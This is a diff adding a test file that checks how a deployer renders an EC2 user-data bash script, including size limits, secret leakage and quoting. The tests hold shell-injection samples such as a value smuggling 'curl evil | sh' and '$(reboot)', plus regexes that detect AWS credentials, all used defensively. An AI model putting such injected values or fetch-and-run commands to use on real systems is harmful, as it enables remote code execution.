@@ -1,0 +1,70 @@
+import { execFileSync } from "node:child_process";
+import { readFileSync } from "node:fs";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { renderUserData, USER_DATA_LIMIT_BYTES, type UserDataParams } from "../../../src/deployer/launch/user-data.js";
+
+const TEMPLATE = readFileSync(path.resolve(import.meta.dirname, "../../../scripts/user-data.sh.tpl"), "utf8");
+const SHA = "a".repeat(64);
+const params: UserDataParams = { project: "my-app", model: "Qwen/Qwen2.5-7B-Instruct", bucket: "my-app-models", binaryKey: "bin/synkti", binarySha256: SHA, region: "us-east-1" };
+
+describe("user-data rendering", () => {
+  it("embeds the project, model, bucket, region and the binary's expected SHA-256; no placeholder left", () => {
+    const script = renderUserData(TEMPLATE, params);
+    expect(script.startsWith("#!/bin/bash\n")).toBe(true);
+    expect(script).toContain(`BINARY_SHA256='${SHA}'`);
+    expect(script).toContain("PROJECT='my-app'");
+    expect(script).toContain("MODEL='Qwen/Qwen2.5-7B-Instruct'");
+    expect(script).toContain("BUCKET='my-app-models'");
+    expect(script).toContain("AWS_REGION='us-east-1'");
+    expect(script).not.toMatch(/\{\{/);
+    expect(script).toContain('exec "$INSTALL_PREFIX/synkti" --project-name "$PROJECT" --model "$MODEL"');
+  });
+
+  it("takes the install prefix and models folder from variables with production defaults", () => {
+    const script = renderUserData(TEMPLATE, params);
+    expect(script).toContain('INSTALL_PREFIX="${SYNKTI_INSTALL_PREFIX:-/usr/local/bin}"');
+    expect(script).toContain('MODELS_DIR="${SYNKTI_MODELS_DIR:-/models}"');
+  });
+
+  it("is valid bash (bash -n)", () => {
+    execFileSync("bash", ["-n"], { input: renderUserData(TEMPLATE, params) });
+  });
+
+  it("stays under EC2's 16 KB limit with the longest names", () => {
+    const long = { ...params, project: "a".repeat(40), model: `${"o".repeat(60)}/${"m".repeat(67)}`, bucket: `${"b".repeat(40)}-models`, region: "ap-southeast-7" };
+    const script = renderUserData(TEMPLATE, long);
+    expect(Buffer.byteLength(script)).toBeLessThan(USER_DATA_LIMIT_BYTES);
+    expect(() => renderUserData(TEMPLATE + "#".repeat(USER_DATA_LIMIT_BYTES), params)).toThrow(/at most 16384/);
+  });
+
+  it("carries no secrets, whatever the deployer's environment holds", () => {
+    const saved = { ...process.env };
+    Object.assign(process.env, { AWS_ACCESS_KEY_ID: "AKIAIOSFODNN7EXAMPLE", AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", AWS_SESSION_TOKEN: "FwoGZXIvYXdzEXAMPLETOKEN" });
+    try {
+      const script = renderUserData(TEMPLATE, params);
+      expect(script).not.toMatch(/AKIA[0-9A-Z]{16}|ASIA[0-9A-Z]{16}/);
+      expect(script).not.toMatch(/aws_secret_access_key|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|aws_session_token|AWS_ACCESS_KEY_ID/i);
+      expect(script).not.toContain("wJalrXUtnFEMI");
+      expect(script).not.toContain("FwoGZXIvYXdz");
+      expect(script).not.toMatch(/BEGIN [A-Z ]*PRIVATE KEY/);
+    } finally {
+      process.env = saved;
+    }
+  });
+
+  it.each([
+    ["model", "m'; curl evil | sh; '"],
+    ["model", "$(reboot)"],
+    ["project", "My App"],
+    ["binarySha256", "abc"],
+    ["region", "us-east-1'"],
+    ["bucket", "b'x"],
+  ] as const)("refuses a %s that could break out of its quotes: %s", (key, value) => {
+    expect(() => renderUserData(TEMPLATE, { ...params, [key]: value })).toThrow(/user-data/);
+  });
+
+  it("refuses a template with an unknown placeholder", () => {
+    expect(() => renderUserData("{{nope}}", params)).toThrow(/unknown placeholder/);
+  });
+});
